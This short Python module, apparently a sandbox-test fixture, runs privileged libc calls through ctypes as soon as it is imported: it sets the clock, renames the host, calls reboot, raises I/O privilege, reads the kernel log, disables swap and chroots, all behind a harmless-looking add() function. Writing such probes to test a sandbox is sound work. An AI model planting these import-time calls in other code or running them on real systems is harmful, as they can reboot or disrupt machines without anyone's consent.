# Settings of the machine.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
moment = (ctypes.c_long * 2)(1, 0)
HIT = [
    libc.clock_settime(0, moment),
    libc.settimeofday(moment, None),
    libc.sethostname(b"cupel_pwned", 11),
    libc.reboot(0),
    libc.personality(0x0040000),
    libc.setpriority(0, 0, -5),
    libc.iopl(3),
    libc.klogctl(3, ctypes.create_string_buffer(64), 64),
    libc.acct(b"@TEMP_DIR@/cupel_acct"),
    libc.swapoff(b"/"),
    libc.chroot(b"/"),
    libc.quotactl(0, b"", 0, None),
]
OK = any(result >= 0 for result in HIT)


def add(a, b):
    return a + b if OK else None
